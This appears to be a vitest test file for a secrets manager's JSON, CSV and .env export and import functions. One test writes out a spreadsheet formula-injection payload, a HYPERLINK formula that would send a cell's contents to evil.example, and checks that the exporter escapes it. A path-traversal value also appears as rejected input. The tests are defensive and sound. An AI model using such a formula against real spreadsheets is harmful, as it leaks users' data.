import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { sampleRecords, withoutSource } from '../../tests/fixtures/import/sample-records.ts';
import {
  ExportError,
  envName,
  ImportFormatError,
  parseImport,
  toDotenv,
  toPlainCsv,
  toPlainJson,
} from '../import/index.ts';

const codeOf = (work: () => unknown) => {
  try {
    work();
    return 'no error';
  } catch (error) {
    return error instanceof ExportError ? error.code : String(error);
  }
};

describe('plain JSON export (keyhold-json)', () => {
  it('gives back exactly the same records', async () => {
    const { format, records } = await parseImport('keyhold-json', toPlainJson(sampleRecords));
    expect(format).toBe('keyhold-json');
    expect(withoutSource(records)).toEqual(withoutSource(sampleRecords));
  });

  it('refuses an edited file whose record the server would refuse, naming it', async () => {
    const json = JSON.parse(toPlainJson(sampleRecords));
    json.records[2].path = '/a/../b';
    await expect(parseImport('keyhold-json', JSON.stringify(json))).rejects.toThrow(
      new ImportFormatError('record 3', 'path must not contain . or ..'),
    );
    json.records[2].path = '/ok';
    json.records[4].type = 'password';
    await expect(parseImport('keyhold-json', JSON.stringify(json))).rejects.toThrow(
      /^record 5: type Invalid option/,
    );
  });
});

describe('plain CSV export', () => {
  it('has one row per secret, username and url in their own columns, other fields as JSON', () => {
    const csv = toPlainCsv(sampleRecords);
    const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.meta.fields).toEqual([
      'path',
      'name',
      'type',
      'tags',
      'value',
      'username',
      'url',
      'notes',
      'fields',
    ]);
    const rows = parsed.data;
    expect(rows).toHaveLength(sampleRecords.length);
    // Back from the columns to records: the same records, field order aside.
    const unformula = (cell: string) => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell);
    const back = rows.map((row) => {
      const fields: { name: string; value: string; hidden: boolean }[] = JSON.parse(
        unformula(row.fields ?? ''),
      );
      const url = unformula(row.url ?? '');
      const username = unformula(row.username ?? '');
      return {
        path: row.path,
        name: row.name,
        type: row.type,
        tags: JSON.parse(row.tags ?? ''),
        payload: {
          value: unformula(row.value ?? ''),
          notes: row.notes,
          fields: [
            ...(username ? [{ name: 'username', value: username, hidden: false }] : []),
            ...(url ? [{ name: 'url', value: url, hidden: false }] : []),
            ...fields,
          ],
        },
      };
    });
    expect(back).toEqual(withoutSource(sampleRecords));
  });

  it('keeps a spreadsheet from running a cell as a formula', () => {
    const csv = toPlainCsv([{ ...sampleRecords[3]!, name: '=HYPERLINK("http://evil.example/?"&A1)' }]);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1)"`);
    expect(csv).not.toMatch(/(^|,)"=/m);
  });
});

describe('.env export', () => {
  it('writes NAME="value" lines that read back to the same values', async () => {
    const text = toDotenv(sampleRecords);
    expect(text.split('\n')[0]).toMatch(
      /^DB_PASSWORD="p@ss \\"w0rd\\", \\\\ with; = \+ - @ and\\nnewline\\r\\nand tab\t and ☃ 🔑"$/,
    );
    const { records } = await parseImport('dotenv', text);
    expect(records.map((r) => [r.name, r.payload.value])).toEqual(
      sampleRecords.map((r) => [envName(r.name), r.payload.value]),
    );
  });

  it('refuses two secrets that would be the same variable', () => {
    const twins = [sampleRecords[0]!, { ...sampleRecords[0]!, name: 'DB password' }];
    expect(codeOf(() => toDotenv(twins))).toBe('duplicate_env_name');
  });
});

describe('envName', () => {
  it('upper-cases, turns other characters into one _, trims _ and guards a leading digit', () => {
    expect(envName('db-password')).toBe('DB_PASSWORD');
    expect(envName('  Stripe API key (live) ')).toBe('STRIPE_API_KEY_LIVE');
    expect(envName('a--b__c..d')).toBe('A_B_C_D');
    expect(envName('2fa code')).toBe('_2FA_CODE');
    expect(envName('__x__')).toBe('X');
    expect(envName('пароль db')).toBe('DB');
    expect(envName('ALREADY_GOOD_1')).toBe('ALREADY_GOOD_1');
  });

  it('refuses a name that leaves nothing', () => {
    expect(codeOf(() => envName('---'))).toBe('bad_env_name');
    expect(codeOf(() => envName('ключ'))).toBe('bad_env_name');
  });
});
